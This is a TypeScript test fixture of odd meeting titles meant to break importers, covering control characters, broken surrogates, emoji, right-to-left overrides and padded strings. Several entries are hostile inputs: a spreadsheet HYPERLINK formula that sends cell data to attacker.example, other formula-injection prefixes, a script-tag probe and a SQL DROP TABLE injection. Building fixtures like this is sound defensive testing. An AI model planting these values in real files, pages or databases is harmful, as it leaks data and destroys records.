/** Titles that have broken importers: each is sent by a `quarter` company once in every 200 calls. `null` is sent as null. */
export const oddTitles: readonly (string | null)[] = [
  null,
  '',
  '   ',
  '\u00a0\tTabbed and padded\t ',
  'Weekly\u0007 sync\u0000 with\u001b[31m control characters\u007f',
  'First line\r\nsecond line\u2028third line',
  'Renewal \ud83d plan (half an emoji)',
  '\udc00 starts with a lone surrogate',
  '🚀 Kick-off 👩‍👩‍👧‍👦 with the whole family 🇮🇱',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")',
  '+1 call with Dana',
  '-2+3 follow-up',
  '@SUM(A1:A9)',
  '＝1+1 in full width',
  `Quarterly review of everything that happened ${'and then some more of it '.repeat(27)}`
    .padEnd(700, '.')
    .slice(0, 700),
  'שיחת היכרות עם הלקוח \u202eתוכנית\u202c (right to left)',
  '<script>alert(1)</script> & "quotes" \\ backslash',
  "Robert'); DROP TABLE calls;-- \ufffe\uffff",
];
